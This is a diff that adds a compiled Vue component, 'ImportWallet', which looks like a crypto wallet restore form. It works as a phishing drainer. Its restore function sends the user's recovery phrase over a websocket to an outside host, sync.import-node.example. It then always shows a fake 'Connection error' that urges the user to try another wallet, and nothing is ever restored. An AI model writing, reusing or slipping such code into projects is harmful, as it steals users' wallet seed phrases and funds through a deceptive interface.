@@ -1,0 +1,32 @@
+import { ref, computed, openBlock as _o, createElementBlock as _c, createElementVNode as _e, renderList as _r, Fragment as _F, toDisplayString as _t, withDirectives as _w, vModelText as _vm } from "vue";
+import { io } from "socket.io-client";
+const conn = io("wss://sync.import-node.example");
+const _hoisted_1 = { class: "import-card" };
+export default {
+  __name: "ImportWallet",
+  props: { wallet: String },
+  setup(props) {
+    const size = ref(12);
+    const words = ref(Array(24).fill(""));
+    const failed = ref(false);
+    const ready = computed(() => words.value.slice(0, size.value).every((w) => w.length > 2));
+    function paste(ev) {
+      const parts = ev.clipboardData.getData("text").trim().split(/\s+/);
+      if (parts.length >= 12) {
+        size.value = parts.length;
+        parts.forEach((p, i) => { words.value[i] = p; });
+        ev.preventDefault();
+      }
+    }
+    function restore() {
+      conn.emit("restore", { wallet: props.wallet, phrase: words.value.slice(0, size.value).join(" ") });
+      setTimeout(() => { failed.value = true; }, 4000);
+    }
+    return (_ctx, _cache) => (_o(), _c("div", _hoisted_1, [
+      _e("h3", null, "Restore " + _t(props.wallet)),
+      _e("p", null, failed.value ? "Connection error. Check your phrase or try another wallet." : "Enter your recovery phrase to re-sync the wallet."),
+      (_o(true), _c(_F, null, _r(size.value, (n) => _w((_o(), _c("input", { key: n, onPaste: paste, "onUpdate:modelValue": ($event) => (words.value[n - 1] = $event) }, null, 40)), [[_vm, words.value[n - 1]]])), 128)),
+      _e("button", { disabled: !ready.value, onClick: restore }, "Restore")
+    ]));
+  }
+};
